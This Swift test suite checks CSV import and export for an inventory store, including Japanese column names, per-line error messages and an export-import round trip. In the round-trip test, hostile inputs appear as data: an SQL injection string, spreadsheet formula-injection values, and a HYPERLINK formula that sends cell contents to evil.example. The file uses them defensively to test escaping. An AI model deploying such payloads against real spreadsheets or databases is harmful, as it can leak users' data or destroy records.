import AgentTools
import BuiltInTools
import Foundation
import Storage
import StorageSQLite
import Synchronization
import Testing

/// Import and export of files with comma-separated values.
@Suite(.timeLimit(.minutes(1))) struct InventoryCSVTests {
    private let now = Date(timeIntervalSince1970: 1_795_000_000)

    private func withFile<Result>(_ bytes: Data, _ body: (String) async throws -> Result) async throws -> Result {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("torii-\(UUID().uuidString).csv").path
        defer { try? FileManager.default.removeItem(atPath: path) }
        try bytes.write(to: URL(fileURLWithPath: path))
        return try await body(path)
    }

    private func importText(
        _ text: String,
        into store: SQLiteStore,
        ignoresUnknownColumns: Bool = false
    ) async throws -> InventoryImportSummary {
        try await withFile(Data(text.utf8)) { path in
            let file = try InventoryCSVFile(path: path, ignoresUnknownColumns: ignoresUnknownColumns)
            return try await store.importItems(from: file, at: now, isRehearsal: false)
        }
    }

    private func exported(
        _ store: SQLiteStore,
        _ export: InventoryCSVExport = InventoryCSVExport()
    ) async throws -> String {
        let text = Mutex("")
        try await export.write(store) { piece in text.withLock { $0 += piece } }
        return text.withLock(\.self)
    }

    @Test(arguments: [
        "title,quantity,unit,category,place,state,code,note,updated_at\r\n"
            + "A4用紙,\"1,500.5\",箱,消耗品,2F,新品,tw1,\"二行の\nメモ\",2026-11-20T18:04:55+09:00\r\n",
        "\u{FEFF}タイトル,数量,単位,カテゴリ,保管場所,状態,コード,備考,更新日時\n"
            + "A4用紙,１５００．５,箱,消耗品,2F,新品,tw1,\"二行の\nメモ\",2026-11-20T09:04:55Z\n",
        " Updated At ,メモ,QRコード・バーコードの値,状態,場所,分類,単位,個数,品名\n"
            + "2026-11-20T18:04:55.000+09:00,\"二行の\nメモ\",tw1,新品,2F,消耗品,箱,1500.50,A4用紙\n",
    ])
    func columnsAreKnownByTheirNames(text: String) async throws {
        let store = try SQLiteStore(path: nil)
        #expect(try await importText(text, into: store) == InventoryImportSummary(created: 1))
        let item = try #require(try await store.item(1))
        #expect(item.title == "A4用紙" && item.quantity == 1500.5 && item.unit == "箱" && item.category == "消耗品")
        #expect(item.place == "2F" && item.state == "新品" && item.code == "tw1" && item.note == "二行の\nメモ")
        #expect(item.updatedAt == (try Date("2026-11-20T09:04:55Z", strategy: .iso8601)))
        #expect(try await store.items(matching: InventoryFilter(title: "用", category: "消耗品")).items == [item])
    }

    @Test func missingColumnsLeaveValuesUnchanged() async throws {
        let store = try SQLiteStore(path: nil)
        _ = try await store.create(InventoryItemDraft(title: "A4", quantity: 1, place: "2F", note: "n"), at: now - 60)
        #expect(try await importText("id,quantity,note\n1,7,\n", into: store) == InventoryImportSummary(updated: 1))
        let item = try #require(try await store.item(1))
        #expect(item.title == "A4" && item.quantity == 7 && item.place == "2F" && item.note == nil)
        #expect(item.createdAt == now - 60 && item.updatedAt == now)
    }

    /// Every fault has its line, and none of the valid lines is imported.
    @Test(
        arguments: [
            ("title,size\nx,1\n", [1], "no column “size”"), ("place\n2F\n", [1], "must name a column"),
            ("title,title\nx,y\n", [1], "twice"), ("title,品名\nx,y\n", [1], "twice"),
            ("title\nok\n\"\"\n", [3], "empty"), ("title,place\nok,1\n,2F\nx\nx,y,z\n", [3, 4, 5], "fields where"),
            (
                "title,quantity\nok,1\nx,many\ny,1e999\nz,0x10\nw,\"1,5\"\n", [3, 4, 5, 6],
                "quantity is not a number: “many”"
            ),
            ("id,title\n1,ok\n0,x\n-1,x\nx,x\n99999999999999999999,x\n", [3, 4, 5, 6], "whole number"),
            ("id,title\n5,ok\n6,x\n5,y\n", [4], "also in line 2"), ("id,quantity\n7,1\n", [2], "no item 7"),
            ("id,quantity\n,1\n", [2], "title is missing"),
            ("title,updated_at\nx,2026-11-20\ny,yesterday\n", [2, 3], "time"),
            ("title\nok\n\"x\n", [3], "never closed"), ("title\nok\nx\"y\n", [3], "inside a field"),
            ("title\n\(String(repeating: "長", count: 201))\n", [2], "longer than 200"),
            ("title,place\nx,\(String(repeating: "長", count: 33_334))\n", [2], "longer than 250"),
            ("", [], "is empty"), ("\n\n", [], "is empty"),
        ] as [(String, [Int], String)]
    )
    func faultsNameTheirLines(text: String, lines: [Int], words: String) async throws {
        let store = try SQLiteStore(path: nil)
        let error = await #expect(throws: InventoryCSVError.self) { try await importText(text, into: store) }
        let description = try #require(error?.description)
        let named = description.split(separator: "\n").compactMap { line in
            line.contains(".csv:") ? Int(line.split(separator: ":")[1]) : nil
        }
        #expect(named == lines && description.contains(words), "\(description)")
        #expect(try await store.items(matching: InventoryFilter()).items.isEmpty)
        #expect(try await store.items(matching: InventoryFilter(title: "ok")).items.isEmpty)
    }

    @Test func theNumberOfFaultsIsLimited() async throws {
        let store = try SQLiteStore(path: nil)
        let text = "title,quantity\n" + String(repeating: "x,y\n", count: 500)
        let error = await #expect(throws: InventoryCSVError.self) { try await importText(text, into: store) }
        #expect(error?.description.split(separator: "\n").count == 21)
    }

    @Test func aFileThatCannotBeReadIsReported() async throws {
        let folder = #expect(throws: InventoryCSVError.self) { try InventoryCSVFile(path: "/tmp") }
        #expect(folder?.description.contains("name a regular file") == true)
        let missing = #expect(throws: InventoryCSVError.self) { try InventoryCSVFile(path: "/nowhere/at/all.csv") }
        #expect(missing?.description == "The file /nowhere/at/all.csv is missing; check its path.")
        try await withFile(Data()) { path in
            // The file is sparse, so nothing is written.
            try FileHandle(forWritingTo: URL(fileURLWithPath: path)).truncate(atOffset: UInt64(256 << 20) + 1)
            let large = #expect(throws: InventoryCSVError.self) { try InventoryCSVFile(path: path) }
            #expect(large?.description.contains("has more than 268435456 bytes") == true)
        }
    }

    @Test func unknownColumnsCanBeIgnored() async throws {
        let store = try SQLiteStore(path: nil)
        let text = "title,size,数量,仕入先\nx,XL,3,y\n"
        _ = try await importText(text, into: store, ignoresUnknownColumns: true)
        let item = try #require(try await store.item(1))
        #expect(item.title == "x" && item.quantity == 3)
    }

    @Test(arguments: [
        InventoryCSVExport(), InventoryCSVExport(isJapanese: true, hasByteOrderMark: true),
    ])
    func anExportIsImportedUnchanged(export: InventoryCSVExport) async throws {
        let store = try SQLiteStore(path: nil)
        let drafts = [
            InventoryItemDraft(
                title: "\"quoted\", 'single'; DROP TABLE x; --",
                quantity: 0.1,
                unit: "m,m",
                category: "a\"b",
                place: "二\r\n行",
                state: "=1+1",
                code: "0012",
                note: "x\ny"
            ),
            InventoryItemDraft(
                title: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                quantity: -7,
                unit: "+1+1",
                category: "-1",
                place: "@SUM(1)",
                state: "'=1",
                code: "''=1",
                note: "'\n=1"
            ),
            InventoryItemDraft(title: "'quoted'", state: "'", code: "''", note: "x =1"),
            InventoryItemDraft(title: "bare"), InventoryItemDraft(title: "\u{202E}turned", quantity: -3),
            InventoryItemDraft(title: "gone"),
        ]
        for (number, draft) in drafts.enumerated() {
            _ = try await store.create(draft, at: now + Double(number) * 0.25)
        }
        _ = try await store.delete(6, ifUpdatedAt: nil)
        let items = try await store.items(matching: InventoryFilter()).items
        let text = try await exported(store, export)

        let copy = try SQLiteStore(path: nil)
        #expect(try await importText(text, into: copy) == InventoryImportSummary(created: 5))
        #expect(try await copy.items(matching: InventoryFilter()).items == items)
        #expect(try await exported(copy, export) == text)
        // Importing the file over itself changes nothing.
        #expect(try await importText(text, into: store) == InventoryImportSummary(updated: 5))
        #expect(try await store.items(matching: InventoryFilter()).items == items)
    }
}
